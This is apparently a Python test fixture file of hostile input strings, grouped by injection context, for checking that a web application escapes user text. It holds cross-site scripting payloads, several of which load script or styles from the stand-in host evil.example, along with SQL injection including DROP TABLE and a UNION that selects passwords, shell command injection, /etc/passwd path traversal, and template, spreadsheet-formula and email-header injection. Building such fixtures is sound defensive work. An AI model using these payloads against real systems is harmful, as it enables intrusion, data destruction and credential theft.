"""Hostile texts. Each of them calls ran(), alert() or evil.example if it is interpreted."""

IN_HTML = [
    "<script>ran()</script>",
    "</script><script>ran()</script>",
    "<ScRiPt>ran()</sCrIpT>",
    "<script/x>ran()</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<img src=x onerror=ran()>",
    '<img src=x:x onerror="ran()">',
    "<img/src=x/onerror=ran()>",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    "`><img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<body onload=ran()>",
    "<iframe src=javascript:ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<object data=javascript:ran()></object>",
    "<embed src=javascript:ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<details open ontoggle=ran()>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>",
    "<marquee onstart=ran()>",
    "<a href=javascript:ran()>x</a>",
    '<a href="java\tscript:ran()">x</a>',
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>ran()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=ran()>">',
    "<!--><img src=x onerror=ran()>-->",
    "<![CDATA[<script>ran()</script>]]>",
    "<textarea></textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "</style><script>ran()</script>",
    "<xss style=animation-name:x onanimationstart=ran()>",
]
IN_SCRIPTS = [
    "';ran();//", '";ran();//', "`;ran();//", "${ran()}", "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\\x3cscript\\x3eran()\\x3c/script\\x3e", "\u2028ran()\u2029", "]]>';ran();//<!--", "__proto__",
    "constructor.prototype.ran",
]  # fmt: skip
IN_ADDRESSES = [
    "javascript:ran()", "JaVaScRiPt:ran()", "javascript://%0aran()", "data:text/html,<script>ran()</script>",
    "vbscript:ran()", "//evil.example", "https://evil.example/\\@here",
]  # fmt: skip
IN_TEMPLATES = [
    "{{7*7}}", "{% debug %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "%(secret)s", "{0.__class__}",
]  # fmt: skip
IN_QUERIES = [
    "' OR '1'='1", "'; DROP TABLE orders_order; --", "1) UNION SELECT password FROM accounts_user --",
    "%' ESCAPE '\\", "_%\\", "$(sleep 5)", "`sleep 5`", "; sleep 5", "../../../../etc/passwd", "(cn=*)(|(password=*))",
]  # fmt: skip
IN_READING_ORDER = [
    "\u202egnp.exe", "a\u200bb\u200cc", "Z\u0351\u036b\u0343a\u0363\u0349lgo", "\ufeffhello", "\U0001f3f4\U000e0067",
]  # fmt: skip
FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("//evil.example")', "\t=1+1", "\r=1+1", "＝1+1",
]  # fmt: skip
HEADERS = [
    "Night\r\nBcc: evil@example.com", "Night\nX-Evil: 1", "Night\r\n\r\n<script>ran()</script>", "Night\x0bEvil: 1",
]  # fmt: skip
CALENDARS = [
    "Night\r\nATTENDEE:mailto:evil@example.com", "Night\nEND:VEVENT\nBEGIN:VALARM", 'Night;ALTREP="//evil.example":x',
    "Night\\nURL:javascript:ran()",
]  # fmt: skip

EVERY_TEXT = [*IN_HTML, *IN_SCRIPTS, *IN_ADDRESSES, *IN_TEMPLATES, *IN_QUERIES, *IN_READING_ORDER]


def chunks(limit: int) -> list[str]:
    """Join the payloads into texts of at most `limit` characters."""
    found, present = [], ""
    for payload in EVERY_TEXT:
        joined = f"{present} {payload}".strip()
        if len(joined) <= limit:
            present = joined
        else:
            found.append(present)
            present = payload
    return [*found, present]
